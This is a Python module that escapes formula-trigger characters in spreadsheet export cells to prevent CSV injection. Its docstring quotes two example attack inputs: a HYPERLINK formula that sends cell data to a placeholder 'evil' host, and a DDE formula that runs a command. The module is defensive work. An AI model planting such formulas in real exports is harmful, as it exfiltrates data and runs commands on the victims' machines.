"""Neutralise spreadsheet formulas in exported cells (CSV and XLSX): plain Python, no Flask.

A resident can type ``=HYPERLINK("http://evil/?"&A1)`` or ``=cmd|'/c calc'!A1`` into a free-text
box; a spreadsheet that opens the export would run it (OWASP "CSV Injection"). Every string cell
goes through :func:`neutralise`, which prefixes a single quote so the spreadsheet shows the text
instead of evaluating it. Numbers, dates and empty cells pass unchanged, so figures stay figures.

Common escapers only look at the first character; spreadsheets skip leading blanks before a
formula, so we look past them: leading spaces, tab, CR, LF, other Unicode blanks and zero-width
characters are skipped before checking for ``= + - @`` (and their full-width forms, which some
spreadsheet locales accept). A value starting with a tab or CR is prefixed whatever follows:
both can shift the cell or start a formula in some importers.
"""
from __future__ import annotations

from typing import Any

#: Characters that start a formula (and DDE) in Excel, LibreOffice and Google Sheets, plus
#: the full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20) that CJK input methods produce.
TRIGGERS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
#: Always suspicious as the very first character (OWASP lists tab and carriage return).
LEADING = frozenset("\t\r")
#: Invisible characters that str.isspace() does not cover but a spreadsheet may skip.
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff"
PREFIX = "'"


def needs_prefix(text: str) -> bool:
    """Would a spreadsheet read ``text`` as a formula (or shift it with a leading control)?"""
    if not text:
        return False
    if text[0] in LEADING:
        return True
    rest = text.lstrip().lstrip(INVISIBLE).lstrip()
    # Mixed runs such as " \u200b =" need the two strips repeated until nothing changes.
    while rest and (rest[0].isspace() or rest[0] in INVISIBLE):
        rest = rest[1:]
    return bool(rest) and rest[0] in TRIGGERS


def neutralise(value: Any) -> Any:
    """The value to write: strings that could be formulas get a leading ``'``; others as given."""
    # Fast path: most cells (codes, labels, words) start with a letter or digit, never a trigger.
    if value.__class__ is not str or not value or value[0].isalnum():
        return value
    return PREFIX + value if needs_prefix(value) else value


def neutralise_row(row: tuple) -> tuple:
    """Every cell of a row through :func:`neutralise`."""
    return tuple(neutralise(v) if isinstance(v, str) else v for v in row)
